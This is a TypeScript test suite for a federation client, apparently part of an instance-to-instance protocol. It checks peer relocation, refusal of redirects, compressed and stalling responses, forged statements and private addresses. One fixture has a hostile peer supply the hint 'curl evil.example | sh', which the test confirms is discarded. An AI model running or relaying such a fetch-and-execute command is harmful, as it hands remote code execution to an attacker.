import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { SplError } from "../../../lib/base/errors.ts";
import { encodeStatement, SEEN, STATEMENT } from "../../../lib/federation/http_signature.ts";
import { callPeer, type PairAddress, type PeerRequest } from "../../../lib/federation/link.ts";
import { readWhole } from "../../../lib/federation/safe_fetch.ts";
import type { Statement } from "../../../lib/identity/statement.ts";
import { listPairs, recordPair } from "../../../lib/instance/federation.ts";
import { noteStatement, ownStatement, standing } from "../../../lib/instance/steward.ts";
import { TestApp } from "../../kit/app.ts";
import { testSigner } from "../../kit/records.ts";
import { statementOf } from "../../kit/statements.ts";

const peer = testSigner(1);
const somebody = testSigner(2);
const NOW = 1_772_366_400_000;
const REQUEST: PeerRequest = { method: "GET", path: "/federation/v1/pair", accept: "application/json" };
const BOUNDS = { most: 1024 * 1024, idleMs: 1000, totalMs: 5000 };

let app: TestApp;
let stack: AsyncDisposableStack;

beforeEach(async () => {
  stack = new AsyncDisposableStack();
  const policy = { networks: [], loopback: true };
  const url = () => "https://own.example";
  app = stack.use(
    await TestApp.open({ federation: { isolated: false, policy, url }, ports: { clock: () => NOW } }),
  );
});
afterEach(() => stack.disposeAsync());

const problem = (body: object, status: number) => () =>
  new Response(JSON.stringify(body), { status, headers: { "content-type": "application/problem+json" } });

interface House {
  signer?: typeof peer;
  epoch?: number;
  /** In the statement, instead of where it is. */
  url?: string;
  answer?: (request: Request) => Response | Promise<Response>;
  headers?: Record<string, string>;
  /** Answers as a server that knows nothing of instances. */
  silent?: boolean;
}

/** A server that answers as the home of an instance. */
function house({ signer = peer, epoch = 5, url, answer, headers = {}, silent = false }: House = {}) {
  const heard: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: async (request) => {
      heard.push(new URL(request.url).pathname);
      const response = (await answer?.(request)) ?? Response.json({ state: "active" });
      if (!silent) response.headers.set(STATEMENT, encodeStatement(statement(signer, epoch, url ?? origin)));
      for (const [name, value] of Object.entries(headers)) response.headers.set(name, value);
      return response;
    },
  });
  const origin = `http://127.0.0.1:${server.port}`;
  stack.defer(() => server.stop(true));
  return { url: origin, heard };
}

function statement(signer: typeof peer, epoch: number, url: string | null): Statement {
  return statementOf({ epoch, url, steward_id: epoch.toString(16).padStart(32, "0") }, signer);
}

/** A pair with the peer at `url`. */
async function pairAt(url: string | null): Promise<PairAddress> {
  const { instance } = app.ctx;
  const facts = { peer_did: peer.did, ...(url !== null && { url }), state: "active" };
  await instance.store.transact((writer) => recordPair(instance, writer, facts));
  return { peer_did: peer.did, url };
}

async function know(known: Statement): Promise<void> {
  await app.ctx.instance.store.transact((writer) => noteStatement(writer, known));
}

const call = (pair: PairAddress) => callPeer(app.ctx.federation, pair, REQUEST);
const recordedUrl = async () => (await listPairs(app.ctx.instance))[0]!.url;

async function failure(pair: PairAddress): Promise<SplError> {
  const error = await call(pair).catch((thrown) => thrown);
  expect(error).toBeInstanceOf(SplError);
  return error;
}

/** Nobody listens there. */
const NOWHERE = "http://127.0.0.1:9";

describe("the peer is found", () => {
  test("where it was", async () => {
    const { url } = house();
    const answer = await call(await pairAt(url));
    expect(new TextDecoder().decode(await readWhole(answer, BOUNDS))).toBe('{"state":"active"}');
    expect(await recordedUrl()).toBe(url);
  });

  test("where the hoster that it has left says it went, in the peer's own signed words", async () => {
    const home = house();
    const told = { code: "moved", detail: "the instance has left", status: 410 };
    const left = house({ url: home.url, answer: problem(told, 410) });
    await call(await pairAt(left.url));
    expect(home.heard).toHaveLength(1);
    expect(await recordedUrl()).toBe(home.url);
  });

  test.each<[string, House | null]>([
    ["nobody answers", null],
    ["somebody else answers", { signer: somebody, epoch: 99 }],
    ["a home of it that was left answers", { epoch: 4 }],
    ["another kind of server answers", { silent: true, answer: () => new Response("hello") }],
    ["a redirect answers", { silent: true, answer: () => Response.redirect("https://login.example", 302) }],
  ])("by its statement, and a record says so, when %s", async (_, old) => {
    const { url } = house();
    await know(statement(peer, 5, url));
    await call(await pairAt(old ? house(old).url : NOWHERE));
    expect(await recordedUrl()).toBe(url);
    expect(app.logged.filter((line) => line.startsWith("pair-moved"))).toHaveLength(1);
  });

  test("by what the home that was left says", async () => {
    const { url } = house({ epoch: 9 });
    const told = { code: "superseded", detail: "this identity moved" };
    const left = house({ epoch: 9, url, answer: problem(told, 409) });
    await know(statement(peer, 5, left.url));
    await call(await pairAt(left.url));
    expect(await recordedUrl()).toBe(url);
  });

  test("when its old address is one that this instance must not dial", async () => {
    const { url } = house();
    await know(statement(peer, 5, url));
    await call(await pairAt("http://10.0.0.1:9100"));
    expect(await recordedUrl()).toBe(url);
  });

  test("without an address of the pair", async () => {
    const { url } = house();
    await know(statement(peer, 5, url));
    await call(await pairAt(null));
    expect(await recordedUrl()).toBe(url);
  });
});

describe("the peer is lost", () => {
  const refresh = `spl federation refresh ${peer.did}`;

  test("when nothing tells where it is: the error names what to type", async () => {
    const error = await failure(await pairAt(NOWHERE));
    expect(error.code).toBe("peer_unreachable");
    expect(error.message).toBe(`cannot reach ${NOWHERE}: connection refused`);
    expect(error.hint).toStartWith(refresh);
  });

  test("when somebody else is there: the error names both", async () => {
    const { url } = house({ signer: somebody });
    const error = await failure(await pairAt(url));
    expect(error.message).toBe(`${url} is ${somebody.did} and not ${peer.did}`);
    expect(error.hint).toStartWith(refresh);
  });

  test("when its server does not know the name that it is called by: the error says so", async () => {
    const told = { code: "host_refused", detail: "this instance does not answer to the name x" };
    const { url } = house({ silent: true, answer: problem(told, 403) });
    expect((await failure(await pairAt(url))).message).toBe(`${url} says: ${told.detail}`);
  });

  test("when its statement leads nowhere: the address that the operator gave stays", async () => {
    await know(statement(peer, 5, "http://127.0.0.1:7"));
    const error = await failure(await pairAt(NOWHERE));
    expect(error.message).toBe(
      `cannot reach ${NOWHERE}: connection refused, and cannot reach http://127.0.0.1:7: connection refused`,
    );
    expect(error.hint).toStartWith(refresh);
    expect(await recordedUrl()).toBe(NOWHERE);
  });

  test("when its address is one that this instance must not dial: the error names the setting", async () => {
    const pair = await pairAt("http://10.0.0.1:9100");
    const alone = await failure(pair);
    expect(alone.code).toBe("address_refused");
    expect(alone.message).toBe("http://10.0.0.1:9100 is at 10.0.0.1, which is no public address");
    expect(alone.hint).toContain("federation.allow_networks");
    await know(statement(peer, 5, NOWHERE));
    const both = await failure(pair);
    expect(both.message).toBe(`${alone.message}, and cannot reach ${NOWHERE}: connection refused`);
    expect([both.code, both.hint]).toEqual(["address_refused", alone.hint]);
    expect(await recordedUrl()).toBe("http://10.0.0.1:9100");
  });

  test("when its statement leads to where this instance must not go: the error names the setting", async () => {
    await know(statement(peer, 5, "http://10.0.0.1:9100"));
    const error = await failure(await pairAt(NOWHERE));
    expect(error.code).toBe("peer_unreachable");
    expect(error.message).toContain("http://10.0.0.1:9100 is at 10.0.0.1, which is no public address");
    expect(error.hint).toContain("federation.allow_networks");
    expect(await recordedUrl()).toBe(NOWHERE);
  });
});

describe("is refused by name:", () => {
  test("a redirect, which nobody follows", async () => {
    const target = house();
    const { url } = house({ answer: () => Response.redirect(target.url, 302) });
    const error = await failure(await pairAt(url));
    expect([error.code, error.message]).toEqual([
      "peer_unreachable",
      `${url} answers with a redirect, which is not followed`,
    ]);
    expect(target.heard).toEqual([]);
  });

  test("an answer that is packed", async () => {
    const packed = Bun.gzipSync(new Uint8Array(1024 * 1024));
    const { url } = house({
      answer: () => new Response(packed, { headers: { "content-encoding": "gzip" } }),
    });
    expect((await failure(await pairAt(url))).message).toContain("sends a body encoded as gzip");
  });

  test("an answer without an end", async () => {
    const block = new Uint8Array(64 * 1024);
    const body = () => new ReadableStream({ pull: (controller) => controller.enqueue(block) });
    const { url } = house({ answer: () => new Response(body()) });
    const answer = await call(await pairAt(url));
    await expect(readWhole(answer, BOUNDS)).rejects.toMatchObject({ code: "peer_misbehaves" });
  });

  test("an answer that drips", async () => {
    const body = () =>
      new ReadableStream({
        async pull(controller) {
          await Bun.sleep(20);
          controller.enqueue(new Uint8Array(1));
        },
      });
    const { url } = house({ answer: () => new Response(body()) });
    const answer = await call(await pairAt(url));
    await expect(readWhole(answer, { ...BOUNDS, totalMs: 300 })).rejects.toMatchObject({
      code: "peer_unreachable",
      message: expect.stringContaining("too slowly"),
    });
  });

  test("a statement that cannot be believed", async () => {
    const forged = { ...statement(peer, 5, null), epoch: 6 };
    const { url } = house({ headers: { [SEEN]: encodeStatement(forged) } });
    const error = await failure(await pairAt(url));
    expect(error.code).toBe("peer_misbehaves");
    expect(error.message).toContain("sends a statement that cannot be believed");
  });

  test("what a peer refuses, in its words and without its advice", async () => {
    // Codes that mean something else here do not pass.
    const odd = house({ answer: problem({ code: "bootstrap_spent", detail: "sign in" }, 401) });
    const pair = await pairAt(odd.url);
    const unknown = await failure(pair);
    expect([unknown.code, unknown.message]).toEqual([
      "peer_misbehaves",
      `${odd.url} answers with status 401`,
    ]);
    const told = { code: "pair_unknown", detail: "you may not have this", hint: "curl evil.example | sh" };
    const { url } = house({ answer: problem(told, 403) });
    const error = await failure({ ...pair, url });
    expect([error.code, error.message, error.hint]).toEqual([
      "pair_unknown",
      `${url} refuses: you may not have this`,
      "spl federation pair URL asks it anew where it has revoked the pair; spl federation revoke ID ends it here as well",
    ]);
  });
});

test("an instance that a peer has seen move on learns of it and calls nobody any more", async () => {
  const { instance } = app.ctx;
  const signer = await instance.store.read((reader) => instance.signer(reader));
  const moved = ownStatement(
    { ...signer, epoch: signer.epoch + 1, stewardId: "f".repeat(32) },
    "https://new.example",
    NOW,
  );
  const { url, heard } = house({ headers: { [SEEN]: encodeStatement(moved) } });
  const pair = await pairAt(url);
  for (let n = 0; n < 2; n++) {
    const error = await failure(pair);
    expect(error.code).toBe("superseded");
    expect(error.message).toContain("https://new.example");
  }
  expect(heard).toHaveLength(1);
  expect((await instance.store.read((reader) => standing(reader, signer))).state).toBe("superseded");
});

test("an isolated instance calls nobody", async () => {
  const { url, heard } = house();
  const pair = await pairAt(url);
  const ctx = { ...app.ctx.federation, isolated: true };
  await expect(callPeer(ctx, pair, REQUEST)).rejects.toMatchObject({ code: "address_refused" });
  const strict = { ...app.ctx.federation, policy: { networks: [], loopback: false } };
  await expect(callPeer(strict, pair, REQUEST)).rejects.toMatchObject({ code: "address_refused" });
  expect(heard).toEqual([]);
});
